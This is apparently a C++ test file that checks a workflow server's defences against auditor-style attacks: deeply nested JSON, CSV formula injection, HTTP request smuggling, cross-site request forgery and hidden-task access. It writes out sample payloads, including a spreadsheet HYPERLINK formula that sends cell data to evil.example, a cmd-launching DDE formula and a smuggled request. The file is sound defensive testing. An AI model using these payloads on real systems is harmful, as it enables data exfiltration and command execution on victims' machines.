// The server against the attacks an ISMS auditor tries first (issue 17): each class of
// attack has a test here that failed on the server before it was hardened.
#include "api_support.h"

#include "runtime/json_input.h"

namespace {

using nlohmann::json;
using namespace raciflow::testing::api;

std::string nested(char open, char close, int depth, const std::string& inner = "1") {
  return std::string(static_cast<std::size_t>(depth), open) + inner + std::string(static_cast<std::size_t>(depth), close);
}

}  // namespace

TEST_CASE("nesting depth counts brackets outside strings only", "[hardening]") {
  using raciflow::runtime::nests_deeper_than;
  using raciflow::runtime::text_nests_deeper_than;
  CHECK_FALSE(text_nests_deeper_than(nested('[', ']', 64), 64));
  CHECK(text_nests_deeper_than(nested('[', ']', 65), 64));
  CHECK_FALSE(text_nests_deeper_than("{\"a\": \"" + std::string(1000, '[') + "\"}", 64));
  CHECK_FALSE(text_nests_deeper_than("[\"\\\"[[[[\"]", 2));
  CHECK(nests_deeper_than(json::parse(nested('[', ']', 65)), 64));
  CHECK_FALSE(nests_deeper_than(json::parse(nested('[', ']', 64)), 64));
}

TEST_CASE("a JSON body nested 100 000 levels deep is refused with 400 and the server goes on", "[api][hardening]") {
  Server s;
  auto anna = s.login("anna");
  auto [case_id, task] = start_deviation(s, anna);
  auto before = s.w.dump();
  const std::string deep_array = nested('[', ']', 100000);
  std::string deep_object;
  for (int i = 0; i < 100000; ++i) deep_object += "{\"a\":";
  deep_object += "1" + std::string(100000, '}');
  struct Probe {
    const char* method;
    std::string target;
    std::string body;
  };
  const std::vector<Probe> probes = {
      {"POST", "/api/cases", "{\"process\":\"corrective-action\",\"variables\":{\"x\":" + deep_array + "}}"},
      {"POST", "/api/messages", "{\"name\":\"External input\",\"variables\":{\"x\":" + deep_object + "}}"},
      {"POST", "/api/tasks/" + std::to_string(task) + "/complete", "{\"variables\":{\"x\":" + deep_array + "}}"},
      {"POST", "/api/tasks/" + std::to_string(task) + "/consult", "{\"answer\":" + deep_array + "}"},
      {"POST", "/api/cases/" + case_id + "/retry", "{\"variables\":" + deep_object + "}"},
      {"PUT", "/api/plan/p1", "{\"note\":" + deep_array + "}"},
      {"PUT", "/api/organisation", "{\"xml\":" + deep_array + "}"},
      {"PUT", "/api/wheel", "{\"xml\":" + deep_object + "}"},
  };
  // Straight to the API: 200 KB bodies are beyond this test server's 64 KiB body limit.
  for (const auto& p : probes) {
    INFO(p.method << " " << p.target);
    raciflow::http::HttpRequest request;
    request.method = p.method;
    request.target = p.target;
    request.body = p.body;
    request.content_type = "application/json";
    request.cookie = anna;
    auto r = s.api->handle(request);
    CHECK(r.status == 400);
    CHECK(json::parse(r.body)["message"] == "the body nests arrays and objects deeper than 64 levels");
  }
  // And through the server, as deep as its body limit allows.
  auto r = s.request("POST", "/api/messages", "{\"name\":\"External input\",\"variables\":{\"x\":" + nested('[', ']', 20000) + "}}",
                     {{"Cookie", anna}});
  CHECK(r.status == 400);
  CHECK(s.w.dump() == before);
  // 64 levels, the documented limit, are taken.
  auto ok = s.as(anna, "POST", "/api/cases", json::parse("{\"process\":\"corrective-action\",\"variables\":{\"x\":" + nested('[', ']', 62) + "}}"));
  CHECK(ok.status == 201);
  CHECK(s.request("GET", "/api/openapi.json").status == 200);
}

TEST_CASE("a --var value nested deeper than 64 levels is refused with one line and changes nothing", "[cli][hardening]") {
  Server s;
  auto before = s.w.dump();
  auto r = s.w.cli({"start", "corrective-action", "--as", "anna", "--var", "x=" + nested('[', ']', 100000)});
  CHECK(r.code == 1);
  CHECK(r.err == "raciflow start: --var x nests arrays and objects deeper than 64 levels\n");
  CHECK(s.w.dump() == before);
  // Text that is not JSON is still a plain string, even when it starts like JSON.
  auto text = s.w.cli({"start", "corrective-action", "--as", "anna", "--var", "note=[see the ticket"});
  CHECK(text.code == 0);
}

TEST_CASE("CSV exports neutralise cells that a spreadsheet would run as formulas", "[api][cli][hardening]") {
  Server s;
  // Anyone can put a person name of their choosing into the trail by failing to log in.
  for (const char* name : {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-3+4", "\tx", "\rx"})
    CHECK(s.request("POST", "/api/login", json{{"person", name}, {"password", "not-the-password"}}.dump()).status == 401);
  auto ida = s.login("ida");
  auto api_csv = s.as(ida, "GET", "/api/audit?format=csv").body;
  auto cli_csv = s.w.cli({"audit", "all", "--format", "csv"}).out;
  for (const auto& csv : {api_csv, cli_csv}) {
    CHECK(csv.find(",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",") != std::string::npos);
    CHECK(csv.find(",'@SUM(1+1)*cmd|' /C calc'!A0,") != std::string::npos);
    CHECK(csv.find(",'+1+2,") != std::string::npos);
    CHECK(csv.find(",'-3+4,") != std::string::npos);
    CHECK(csv.find(",'\tx,") != std::string::npos);
    CHECK(csv.find(",\"'\rx\",") != std::string::npos);
    // No cell starts with a formula character: after each separator comes something else.
    for (const char* bad : {",=", ",@", ",+", ",\"=", ",\"@", ",\"+", ",\"-"}) CHECK(csv.find(bad) == std::string::npos);
  }
  // The RACI matrix's CSV too: a step named like a formula.
  s.w.write("formula.bpmn", R"(<?xml version="1.0" encoding="UTF-8"?>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:raci="urn:raciflow:1" targetNamespace="t">
  <process id="f" isExecutable="true">
    <laneSet><lane id="l" raci:role="security-function"><flowNodeRef>s</flowNodeRef><flowNodeRef>t</flowNodeRef><flowNodeRef>e</flowNodeRef></lane></laneSet>
    <startEvent id="s"/><sequenceFlow id="f1" sourceRef="s" targetRef="t"/>
    <userTask id="t" name="=1+1"/><sequenceFlow id="f2" sourceRef="t" targetRef="e"/><endEvent id="e"/>
  </process>
</definitions>)");
  auto raci = s.w.cli({"raci", s.w.path("formula.bpmn"), "--format", "csv"});
  INFO(raci.err);
  CHECK(raci.out.find("t,'=1+1,") != std::string::npos);
}

TEST_CASE("a command on a task of a case the caller cannot see is 404 like a read, and still recorded", "[api][hardening]") {
  Server s;
  auto anna = s.login("anna"), karen = s.login("karen");
  auto [case_id, assess] = start_deviation(s, anna);
  std::string task = "/api/tasks/" + std::to_string(assess);
  REQUIRE(s.as(karen, "GET", "/api/cases/" + case_id).status == 404);
  REQUIRE(s.as(karen, "GET", task).status == 404);
  auto refusals = s.refusals().size();
  for (const char* command : {"/claim", "/unclaim", "/complete", "/consult"}) {
    INFO(command);
    auto r = s.as(karen, "POST", task + command, std::string(command) == "/consult" ? json{{"answer", "x"}} : json::object());
    CHECK(r.status == 404);
    CHECK(r.json_body()["message"] == "no task " + std::to_string(assess));
    CHECK(r.body.find("Assess") == std::string::npos);  // the step's name does not leak
  }
  CHECK(s.refusals().size() == refusals + 4);
  CHECK(s.refusals().back() == "karen: task " + std::to_string(assess) + " is in a case the caller cannot see");
}

TEST_CASE("every API answer says no-store; a definition's XML is a download", "[api][hardening]") {
  Server s;
  auto anna = s.login("anna");
  for (const char* target : {"/api/me", "/api/cases", "/api/cases/nothing", "/api/openapi.json", "/api/definitions/deviation-handling/xml"}) {
    INFO(target);
    CHECK(s.as(anna, "GET", target).headers["Cache-Control"] == "no-store");
  }
  CHECK(s.request("GET", "/api/me").headers["Cache-Control"] == "no-store");  // 401 too
  auto xml = s.as(anna, "GET", "/api/definitions/deviation-handling/xml");
  CHECK(xml.status == 200);
  CHECK(xml.headers["Content-Disposition"] == "attachment; filename=\"deviation-handling-v1.bpmn\"");
}

TEST_CASE("setting a password ends every session of that person", "[cli][hardening]") {
  Server s;
  auto mette = s.login("mette"), mette_again = s.login("mette"), anna = s.login("anna");
  REQUIRE(s.as(mette, "GET", "/api/me").status == 200);
  s.w.write("new.pw", "a-new-password-for-mette\n");
  REQUIRE(s.w.cli({"password", "set", "mette", "--password-file", s.w.path("new.pw")}).code == 0);
  CHECK(s.as(mette, "GET", "/api/me").status == 401);
  CHECK(s.as(mette_again, "GET", "/api/me").status == 401);
  CHECK(s.as(anna, "GET", "/api/me").status == 200);  // others stay logged in
  auto records = s.w.cli({"audit", "all", "--format", "json"}).json();
  json last_set;
  for (const auto& r : records)
    if (r["action"] == "password_set") last_set = r;
  CHECK(last_set["data"]["sessions_ended"] == 2);
}

TEST_CASE("a Transfer-Encoding that does not end in chunked is 400 and the connection closes", "[api][hardening]") {
  Server s;
  for (const char* coding : {"gzip", "chunked, identity", "identity", "gzip, chunked, gzip", "chunked\r\nTransfer-Encoding: gzip"}) {
    INFO(coding);
    // What would be the body is itself a request: it must never be read as one.
    std::string smuggled = "GET /api/openapi.json HTTP/1.1\r\nHost: x\r\n\r\n";
    auto reply = s.raw(std::string("POST /api/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: ") +
                       coding + "\r\n\r\n" + smuggled);
    CHECK(reply.rfind("HTTP/1.1 400", 0) == 0);
    CHECK(reply.find("Connection: close") != std::string::npos);
    CHECK(reply.find("HTTP/1.1", 1) == std::string::npos);  // one answer, then closed
  }
  // handle_bytes, the fuzzer's way in, refuses it the same way.
  raciflow::http::ServerOptions options;
  auto r = raciflow::http::handle_bytes(*s.api, "POST /api/login HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: gzip\r\n\r\nabc", options);
  CHECK(r.status == 400);
  // chunked alone is fine.
  auto ok = s.raw("POST /api/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
                  "2\r\n{}\r\n0\r\n\r\n");
  CHECK(ok.rfind("HTTP/1.1 400", 0) == 0);  // read as a body: the fields are missing
  CHECK(ok.find("the field 'person' is required") != std::string::npos);
}

TEST_CASE("a change made with the session cookie must be JSON from the app's own origin", "[api][hardening]") {
  Server s;
  auto anna = s.login("anna"), lars = s.login("lars");
  auto [case_id, assess] = start_deviation(s, anna);
  const std::string claim = "/api/tasks/" + std::to_string(assess) + "/claim";
  const std::string host = "127.0.0.1:" + std::to_string(s.port);
  auto refusals = s.refusals().size();
  struct Attempt {
    const char* what;
    std::map<std::string, std::string> headers;
  };
  const std::vector<Attempt> attempts = {
      {"an empty form post", {{"Content-Type", "application/x-www-form-urlencoded"}}},
      {"no content type at all", {{"Content-Type", ""}}},
      {"text/plain", {{"Content-Type", "text/plain"}}},
      {"another port", {{"Origin", "http://127.0.0.1:9999"}, {"Host", host}}},
      {"a sibling subdomain", {{"Origin", "https://evil.isms.example.org"}, {"Host", "app.isms.example.org"}}},
      {"an opaque origin", {{"Origin", "null"}, {"Host", host}}},
      {"same-site by Sec-Fetch-Site", {{"Sec-Fetch-Site", "same-site"}}},
      {"cross-site by Sec-Fetch-Site", {{"Sec-Fetch-Site", "cross-site"}}},
  };
  for (const auto& a : attempts) {
    INFO(a.what);
    auto headers = a.headers;
    headers["Cookie"] = lars;
    auto r = s.request("POST", claim, "", headers);
    CHECK(r.status == 403);
  }
  CHECK(s.refusals().size() == refusals + attempts.size());  // each audited
  CHECK(s.as(anna, "GET", "/api/tasks/" + std::to_string(assess)).json_body()["status"] == "open");
  // Logging in is held to the same rule, so no other site logs a browser in.
  CHECK(s.request("POST", "/api/login", json{{"person", "lars"}, {"password", "lars-password"}}.dump(), {{"Origin", "http://evil.example"}})
            .status == 403);
  // Scripts with a bearer token are not browsers: no Origin rule, and an empty body needs no type.
  auto token = s.w.cli({"token", "create", "lars"}).out;
  token.pop_back();
  CHECK(s.request("POST", claim, "", {{"Authorization", "Bearer " + token}, {"Content-Type", ""}}).status == 200);
  CHECK(s.request("POST", "/api/tasks/" + std::to_string(assess) + "/unclaim", "", {{"Cookie", lars}, {"Origin", "http://" + host}, {"Host", host},
                                                                                      {"Sec-Fetch-Site", "same-origin"}})
            .status == 200);
}

TEST_CASE("a message over the API continues only the waiting cases its sender may see", "[api][hardening]") {
  Server s;
  s.w.write("supplier.bpmn", R"(<?xml version="1.0" encoding="UTF-8"?>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:raci="urn:raciflow:1" targetNamespace="t">
  <message id="m" name="Supplier answered"/>
  <process id="supplier-check" name="Supplier check" isExecutable="true">
    <laneSet><lane id="l" raci:role="security-function">
      <flowNodeRef>s</flowNodeRef><flowNodeRef>wait</flowNodeRef><flowNodeRef>review</flowNodeRef><flowNodeRef>e</flowNodeRef>
    </lane></laneSet>
    <startEvent id="s"/><sequenceFlow id="f1" sourceRef="s" targetRef="wait"/>
    <intermediateCatchEvent id="wait" name="Supplier answers"><messageEventDefinition messageRef="m"/></intermediateCatchEvent>
    <sequenceFlow id="f2" sourceRef="wait" targetRef="review"/>
    <userTask id="review" name="Review the answer"/><sequenceFlow id="f3" sourceRef="review" targetRef="e"/><endEvent id="e"/>
  </process>
</definitions>)");
  REQUIRE(s.w.cli({"deploy", s.w.path("supplier.bpmn"), "--as", "setup"}).code == 0);
  auto lars = s.login("lars"), mette = s.login("mette"), anna = s.login("anna");
  auto started = s.as(lars, "POST", "/api/cases", {{"process", "supplier-check"}, {"key", "SUP-1"}});
  REQUIRE(started.status == 201);
  std::string id = started.json_body()["id"];
  REQUIRE(s.as(mette, "GET", "/api/cases/" + id).status == 404);
  // Mette has no part in the case: to her nothing waits, with or without the key.
  for (const json& body : {json{{"name", "Supplier answered"}}, json{{"name", "Supplier answered"}, {"key", "SUP-1"}}}) {
    auto r = s.as(mette, "POST", "/api/messages", body);
    CHECK(r.status == 422);
    CHECK(r.json_body()["message"].get<std::string>().rfind("no case waits for message 'Supplier answered'", 0) == 0);
  }
  CHECK(s.as(lars, "GET", "/api/cases/" + id).json_body()["status"] == "active");
  CHECK(s.as(lars, "GET", "/api/tasks?case=" + id).json_body().empty());  // still waiting
  // Lars started it and may move it.
  auto moved = s.as(lars, "POST", "/api/messages", {{"name", "Supplier answered"}});
  CHECK(moved.status == 200);
  CHECK(moved.json_body()["cases"] == json::array({id}));
  CHECK(s.as(lars, "GET", "/api/tasks?case=" + id).json_body().size() == 1);
  // The admin sees every case.
  auto second = s.as(lars, "POST", "/api/cases", {{"process", "supplier-check"}}).json_body()["id"].get<std::string>();
  CHECK(s.as(anna, "POST", "/api/messages", {{"name", "Supplier answered"}}).json_body()["cases"] == json::array({second}));
}
